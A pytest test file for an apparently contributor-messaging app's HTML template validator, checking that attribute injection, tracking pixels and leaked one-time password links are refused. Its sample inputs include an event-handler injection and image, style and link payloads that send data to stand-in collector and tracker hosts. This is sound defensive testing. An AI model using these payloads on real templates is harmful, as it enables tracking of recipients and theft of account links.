"""Issue 16, an attacker's review: a contributor's words in an admin's HTML template.

Autoescaping turns `< > & " '` into entities, but not a space or `=`: a value
printed inside a tag but outside a quoted attribute value (`<p title={{ title }}>`,
`<td {{ title }}>`) lets a submission's title add attributes of its own to the
message every contributor or reviewer receives: an event handler, or a style
that fetches a tracking image from the contributor's server when the message is
read. And a few attributes that hold an address were not on the list of those
where only a link variable may go (`ping`, a refresh's `content`)."""

import pytest

from messages.sandbox import render, validate
from messages.templates import spec_for

ACK = spec_for("contributor.acknowledgement")
PRESENTER = spec_for("presenter.invitation")
HOSTILE_TITLE = "x onmouseover=alert(1) style=background:url(https://tracker.example/t.png)"
UNQUOTED = "inside a tag, a value goes only inside a quoted attribute value"
ADDRESS = "only a link variable (reply_link) may be a link's address"


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p title={{ title }}>x</p>", UNQUOTED),
        ("<td class=a{{ title }}>x</td>", UNQUOTED),
        ("<p {{ title }}>x</p>", UNQUOTED),
        ('<p class="a" {{ title }}>x</p>', UNQUOTED),
        ('<img alt={{ title }} src="https://a.example/logo.png">', UNQUOTED),
        ("<p\ntitle={{ title }}>x</p>", UNQUOTED),
        ("<{{ title }}>x", UNQUOTED),  # a tag's name: "img src=x onerror=..." would be a tag
        ('<p title="' + "x" * 3000 + '" {{ title }}>x</p>', UNQUOTED),  # however long the tag
        ('<p title="<" {{ title }}>x</p>', UNQUOTED),  # a "<" in a quoted value starts no tag
        ('<a ping="{{ title }}" href="https://a.example/">x</a>', ADDRESS),
        ('<meta http-equiv="refresh" content="0;url={{ title }}">', ADDRESS),
        ('<img longdesc="{{ title }}" src="https://a.example/x.png">', ADDRESS),
        ('<object codebase="{{ title }}"></object>', ADDRESS),
    ],
)
def test_a_value_inside_a_tag_goes_only_in_quotes_and_an_address_attribute_takes_only_a_link(html, words):
    problems = validate(PRESENTER, "Subject", "Text", html)
    assert [p.part for p in problems] == ["html"], html
    assert words in problems[0].message


def test_what_such_a_template_would_have_sent_is_refused_before_anything_is_queued():
    with pytest.raises(ValueError, match="quoted attribute value"):
        render(ACK, "Subject", "Text", "<p title={{ title }}>x</p>", ACK.examples() | {"title": HOSTILE_TITLE})


def test_quoted_values_text_and_a_link_stay_allowed_and_the_title_stays_one_attribute():
    html = (
        "<p title=\"{{ title }}\" class='{{ reference }}'>{{ title }} = {{ reference }}</p>"
        '<p>a < b {{ title }}</p><!-- {{ reference }} --><a href="{{ reply_link }}">reply</a>'
        '<p title="a>b" data-x="{{ title }}">x</p>'
    )
    assert validate(PRESENTER, "Subject", "Text", html) == []
    out = render(PRESENTER, "Subject", "Text", html, PRESENTER.examples() | {"title": HOSTILE_TITLE})
    assert f'<p title="{HOSTILE_TITLE}"' in out.html


INVITATION = spec_for("reviewer.invitation")


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://collector.example/p.png?l={{ set_password_link }}" alt="">',
        "<img src='https://collector.example/p.png?l={{ set_password_link }}'>",
        '<a href="https://collector.example/?next={{ set_password_link }}">set your password</a>',
        '<a href="{{ set_password_link }}&again={{ set_password_link }}">x</a>',
    ],
)
def test_a_one_time_link_is_the_whole_address_never_part_of_another_servers(html):
    """An edited template (by an admin, or by someone who was one) must not hand every
    new invitation's link to another server: an image there is fetched, with the link,
    when the message is opened, before the reviewer has used it."""
    problems = validate(INVITATION, "Subject", "Text", html)
    assert [p.part for p in problems] == ["html"], html
    assert "set_password_link must be the whole address" in problems[0].message


def test_a_link_as_the_whole_address_quoted_or_not_stays_allowed():
    html = (
        "<a href=\"{{ set_password_link }}\">set</a> <a href='{{ set_password_link }}'>set</a>"
        ' <a href={{ set_password_link }}>set</a> <a href = "{{ set_password_link }}">set</a>'
    )
    assert validate(INVITATION, "Subject", "Text", html) == []


@pytest.mark.parametrize(
    "html",
    [
        '<p>Thank you</p><img src="https://pixel.example/open.gif" width="1" height="1">',
        '<img srcset="https://pixel.example/a.png 1x">',
        '<table background="https://pixel.example/bg.png"><tr><td>x</td></tr></table>',
        '<link rel="stylesheet" href="https://pixel.example/s.css">',
        '<div style="background-image: url(https://pixel.example/bg.png)">x</div>',
        "<style>@import 'https://pixel.example/s.css';</style>",
        '<video poster="https://pixel.example/p.png"></video>',
        '<meta http-equiv="refresh" content="0;url=https://pixel.example/">',
        '<svg><image href="https://pixel.example/p.png"/></svg>',
        '<p title="' + "x" * 3000 + '" src="https://pixel.example/p.png">x</p>',
        '<p title="<" src="https://pixel.example/p.png">x</p>',
        '<a href="https://evidence.example.org/" ping="https://pixel.example/clicked">the app</a>',
    ],
)
def test_an_acknowledgement_fetches_nothing_when_it_is_opened(html):
    """A tracking image in the acknowledgement (saved by an admin, or by someone who
    was one) tells its server which contributor opened it, from where and when: an
    anonymous contributor's IP address among them."""
    problems = validate(ACK, "Subject", "Text", html)
    assert [p.part for p in problems] == ["html"], html
    assert "a message fetches nothing when it is opened" in problems[0].message


def test_words_about_images_and_addresses_and_data_attributes_stay_allowed():
    html = '<p data-ref="{{ reference }}">The url (below) and the src = source; an image.</p>'
    assert validate(ACK, "Subject", "Text", html) == []
